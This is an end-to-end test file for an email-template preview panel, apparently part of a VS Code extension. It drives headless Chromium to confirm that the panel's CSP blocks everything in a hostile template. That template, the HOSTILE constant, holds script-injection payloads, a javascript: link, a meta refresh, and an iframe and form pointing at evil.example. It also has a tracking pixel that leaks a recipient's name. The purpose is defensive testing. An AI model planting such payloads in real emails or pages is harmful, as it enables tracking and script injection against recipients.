/**
 * The preview panel's page in a real browser engine (Debian's Chromium, driven by playwright-core),
 * served over http with a stand-in for VS Code's `acquireVsCodeApi`: the panel's own script runs
 * under its nonce CSP, while a hostile template runs nothing, fetches nothing and navigates nowhere;
 * clicks on marks and links reach the extension as messages; updates keep unchanged frames.
 * Part of `npm run test:e2e`, which needs Debian's Chromium (.ci/run installs it).
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { previewContentHtml, previewPanelHtml, type PanelOptions } from '../../client/src/preview/panel-html';
import { liquid } from '../../server/src/core/dialects/liquid';
import { markedEmailHtml } from '../../server/src/core/preview/html';
import { previewTemplate } from '../../server/src/core/preview/preview';
import { parseRecipients } from '../../server/src/core/preview/recipients';
import type { PreviewRecipient, PreviewResult } from '../../protocol/src/requests';
import { NOW, schemaOf } from '../helpers/schema';

const CHROMIUM = '/usr/bin/chromium';

/** The few playwright-core types used here; loaded by name so that the tests type-check without it. */
interface Frame { url(): string; evaluate<T>(fn: string): Promise<T>; locator(selector: string): { click(): Promise<void> } }
interface Page {
  goto(url: string): Promise<unknown>;
  on(event: 'dialog', listener: (dialog: { message(): string; dismiss(): Promise<void> }) => void): void;
  on(event: 'request' | 'requestfinished', listener: (request: { url(): string }) => void): void;
  on(event: 'requestfailed', listener: (request: { url(): string; failure(): { errorText: string } | null }) => void): void;
  addInitScript(script: string): Promise<void>;
  evaluate<T>(fn: string): Promise<T>;
  frames(): Frame[];
  url(): string;
  click(selector: string): Promise<void>;
  route(url: string, handler: (route: { fulfill(response: { status: number; contentType: string; body: Buffer }): Promise<void> }) => void): Promise<void>;
  close(): Promise<void>;
}
interface Browser { newPage(): Promise<Page>; close(): Promise<void> }

async function launch(): Promise<Browser> {
  if (!fs.existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: install Debian's chromium (apt-get install chromium), as .ci/run does.`);
  const moduleName = 'playwright-core';
  const { chromium } = await import(moduleName) as { chromium: { launch(options: object): Promise<Browser> } };
  return chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--no-first-run'] });
}

/**
 * Waits until `expression` is true in the page. Polls with evaluate (run by the debugger protocol)
 * because Playwright's own waitForFunction needs eval, which the panel's CSP rightly forbids.
 */
async function waitFor(page: Page, expression: string, timeoutMs = 10_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await page.evaluate<boolean>(`Boolean(${expression})`).catch(() => false))) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${expression}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

const SCHEMA = schemaOf({ fields: { 'customer.first_name': { type: 'string' }, 'customer.city': { type: 'string' } } });

const HOSTILE = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<script>parent.postMessage('pwned by script', '*'); alert('script')</script>
<link rel="stylesheet" href="https://fonts.example/track.css">
<style>@font-face { font-family: T; src: url(https://fonts.example/t.woff2); } p { font-family: T; }</style>
</head><body onload="parent.postMessage('pwned by onload', '*')">
<p id="hi">Hi {{ customer.first_name | default: "there" }} from {{ customer.city }}</p>
<img src="https://tracker.example/pixel.gif?u={{ customer.first_name }}" onerror="parent.postMessage('pwned by onerror', '*')">
<a id="js" href="javascript:parent.postMessage('pwned by javascript link', '*')">js</a>
<a id="site" href="https://example.com/" target="_top">site</a>
<a id="blank" href="https://example.com/new" target="_blank">new window</a>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/post"><button id="send">send</button></form>
<svg><script>parent.postMessage('pwned by svg', '*')</script></svg>
</body></html>`;

function rendered(text: string, data: object, name: string): PreviewRecipient {
  const recipient = parseRecipients(JSON.stringify({ $name: name, ...data }), `/ws/recipients/${name.toLowerCase()}.json`).recipients[0];
  const preview = previewTemplate({ text, dialect: liquid, scan: liquid.scan(text), schema: SCHEMA, recipient, now: NOW });
  return { name, file: recipient.file, summary: preview.summary, counts: preview.counts, html: markedEmailHtml(preview, { plainText: false }) };
}

function result(recipients: PreviewRecipient[]): PreviewResult {
  return { uri: 'file:///ws/emails/welcome.liquid', version: 1, template: 'welcome.liquid', plainText: false, recipients, problems: [] };
}

/** Stands in for VS Code: records what the page posts, and every message that reaches the page. */
const VSCODE_STUB = `
window.__posted = [];
window.__received = [];
window.addEventListener('message', (event) => { if (typeof event.data === 'string') window.__received.push(event.data); });
window.acquireVsCodeApi = () => {
  let state;
  return { postMessage: (message) => window.__posted.push(message), getState: () => state, setState: (next) => { state = next; } };
};`;

describe('preview panel in a browser', () => {
  let browser: Browser | undefined;
  let server: http.Server;
  let base = '';
  const pages = new Map<string, string>();
  const recipients = [rendered(HOSTILE, { customer: { first_name: 'Ana' } }, 'Ana'), rendered('<p>Hi {{ customer.first_name }}</p>', {}, 'Ben')];
  const options: PanelOptions = { nonce: 'abc123NONCE', remoteContent: false, layout: 'sideBySide' };

  before(async () => {
    browser = await launch();
    pages.set('/panel', previewPanelHtml(result(recipients), options));
    pages.set('/remote', previewPanelHtml(result(recipients), { ...options, remoteContent: true }));
    server = http.createServer((request, response) => {
      const page = pages.get(request.url ?? '');
      response.writeHead(page ? 200 : 404, { 'content-type': 'text/html; charset=utf-8' });
      response.end(page ?? 'not found');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });

  after(async () => {
    await browser?.close();
    server.close();
  });

  async function open(url: string) {
    const page = await browser!.newPage();
    const dialogs: string[] = [];
    const remote: string[] = [];
    page.on('dialog', (dialog) => { dialogs.push(dialog.message()); void dialog.dismiss(); });
    // Chromium reports a request that the CSP blocks, then its failure with "csp": only others count.
    page.on('requestfailed', (request) => { if (request.failure()?.errorText !== 'csp') remote.push(`${request.url()} (${request.failure()?.errorText})`); });
    page.on('requestfinished', (request) => { if (!request.url().startsWith(base)) remote.push(request.url()); });
    await page.addInitScript(VSCODE_STUB);
    await page.goto(`${base}${url}`);
    await waitFor(page, 'window.__posted.some((m) => m.type === "ready")');
    await waitFor(page, 'document.querySelectorAll("iframe.email").length === 2 && [...document.querySelectorAll("iframe.email")].every((f) => f.contentDocument && f.contentDocument.querySelector("p"))');
    const email = () => page.frames().find((frame) => frame.url() === 'about:srcdoc')!;
    return { page, dialogs, remote, email };
  }

  test('the panel\'s script runs; nothing from the template runs, loads or navigates', async () => {
    const { page, dialogs, remote, email } = await open('/panel');
    try {
      await page.click('#content h1'); // A user gesture, as when clicking around the panel.
      await email().locator('#js').click();
      await email().locator('#site').click();
      await email().locator('#blank').click();
      await email().locator('#send').click();
      await new Promise((resolve) => setTimeout(resolve, 600));
      assert.deepEqual(dialogs, []);
      assert.deepEqual(await page.evaluate<string[]>('window.__received'), []);
      assert.deepEqual(remote, [], 'no request left the page: no tracking pixel, font, stylesheet, frame or form');
      assert.equal(page.url(), `${base}/panel`);
      assert.ok(page.frames().filter((frame) => frame.url() === 'about:srcdoc').length >= 2, page.frames().map((f) => f.url()).join(', '));
      assert.equal(await email().evaluate<boolean>('document.getElementById("hi") !== null'), true);
      const links = await page.evaluate<{ type: string; href: string }[]>('window.__posted.filter((m) => m.type === "link")');
      assert.deepEqual(links.map((l) => l.href), ["javascript:parent.postMessage('pwned by javascript link', '*')", 'https://example.com/', 'https://example.com/new']);
    } finally {
      await page.close();
    }
  });

  test('clicking a mark asks the extension to reveal its merge tag', async () => {
    const { page, email } = await open('/panel');
    try {
      await email().locator('mark.mw-value').click();
      const reveal = await page.evaluate<{ start: number; end: number }[]>('window.__posted.filter((m) => m.type === "reveal")');
      const tag = '{{ customer.first_name | default: "there" }}';
      assert.deepEqual(reveal, [{ type: 'reveal', start: HOSTILE.indexOf(tag), end: HOSTILE.indexOf(tag) + tag.length }]);
    } finally {
      await page.close();
    }
  });

  test('an update replaces what changed and keeps the frames whose rendering did not', async () => {
    const { page } = await open('/panel');
    try {
      await page.evaluate('document.querySelectorAll("iframe.email").forEach((f) => { f.contentDocument.body.dataset.kept = "yes"; })');
      const next = [recipients[0], rendered('<p>Hello again {{ customer.first_name }}</p>', {}, 'Ben')];
      const html = previewContentHtml(result(next), { remoteContent: false });
      await page.evaluate(`window.postMessage({ type: 'update', html: ${JSON.stringify(html)} }, '*')`);
      await waitFor(page, 'document.querySelectorAll("iframe.email")[1].contentDocument.body.textContent.includes("Hello again")');
      const kept = await page.evaluate<(string | undefined)[]>('[...document.querySelectorAll("iframe.email")].map((f) => f.contentDocument.body.dataset.kept)');
      assert.deepEqual(kept, ['yes', undefined], 'Ana\'s frame was kept; Ben\'s was reloaded with the new rendering');
      // A click on the reloaded frame still reaches the extension.
      await page.evaluate('document.querySelectorAll("iframe.email")[1].contentDocument.querySelector("mark").click()');
      assert.equal(await page.evaluate<number>('window.__posted.filter((m) => m.type === "reveal").length'), 1);
    } finally {
      await page.close();
    }
  });

  test('the layout toggle and the tabs work, and are reported to the extension', async () => {
    const { page } = await open('/panel');
    try {
      await page.click('[data-action="layout"][data-layout="tabs"]');
      assert.equal(await page.evaluate<string>('document.body.dataset.layout'), 'tabs');
      assert.equal(await page.evaluate<number>('[...document.querySelectorAll("section.card")].filter((c) => getComputedStyle(c).display !== "none").length'), 1);
      await page.click('[data-action="tab"]:nth-child(2)');
      assert.equal(await page.evaluate<string>('document.querySelector("section.card.active h2").textContent'), 'Ben');
      const posted = await page.evaluate<{ type: string }[]>('window.__posted.filter((m) => m.type === "layout" || m.type === "tab")');
      assert.deepEqual(posted, [{ type: 'layout', layout: 'tabs' }, { type: 'tab', key: '/ws/recipients/ben.json#Ben' }]);
    } finally {
      await page.close();
    }
  });

  test('"Load remote content" lets images, fonts and CSS load over https, and still runs no script', async () => {
    const loaded: string[] = [];
    const page = await browser!.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => { dialogs.push(dialog.message()); void dialog.dismiss(); });
    await page.route('https://**/*', (route) => {
      void route.fulfill({ status: 200, contentType: 'text/plain', body: Buffer.from('') });
    });
    page.on('requestfinished', (request) => { if (request.url().startsWith('https://')) loaded.push(new URL(request.url()).host); });
    try {
      await page.addInitScript(VSCODE_STUB);
      await page.goto(`${base}/remote`);
      await waitFor(page, 'window.__posted.some((m) => m.type === "ready")');
      await new Promise((resolve) => setTimeout(resolve, 800));
      assert.ok(loaded.includes('tracker.example'), `the pixel loads when asked for: ${loaded.join(', ')}`);
      assert.ok(loaded.includes('fonts.example'), `the stylesheet loads when asked for: ${loaded.join(', ')}`);
      assert.equal(loaded.includes('evil.example'), false, 'frames, forms and refreshes stay blocked');
      assert.deepEqual(dialogs, []);
      assert.deepEqual(await page.evaluate<string[]>('window.__received'), []);
    } finally {
      await page.close();
    }
  });
});
